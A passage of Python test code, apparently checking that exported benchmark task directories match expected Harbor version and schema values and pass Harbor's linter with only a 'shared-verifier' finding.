    for export in (demo_export, deepswe_export):
        named = json.loads((export / "export.json").read_text())["harbor"]
        assert (named["version"], named["task_schema"]) == (HARBOR_VERSION, HARBOR_TASK_SCHEMA)
    if facts["version"] == HARBOR_VERSION:  # (SWE_RESIDUAL_HARBOR_SPEC may name another release)
        assert facts["task_schema"] == HARBOR_TASK_SCHEMA
    # Harbor's own linter: no invalid or unknown task.toml field, no invalid task file, in any
    # exported dir; the demo tasks' shared verifier (a property of the task) is all it reports
    dirs = sorted(str(p) for e in (demo_export, deepswe_export) for p in e.iterdir() if p.is_dir())
    harbor = str(Path(harbor_python).parent / "harbor")
    res = subprocess.run(
        [harbor, "lint", "--json", *dirs], capture_output=True, text=True, timeout=600, check=False
    )
    findings = json.loads(res.stdout)
    assert {f["rule"] for f in findings} <= {"shared-verifier"}, findings
    assert len(dirs) == 27
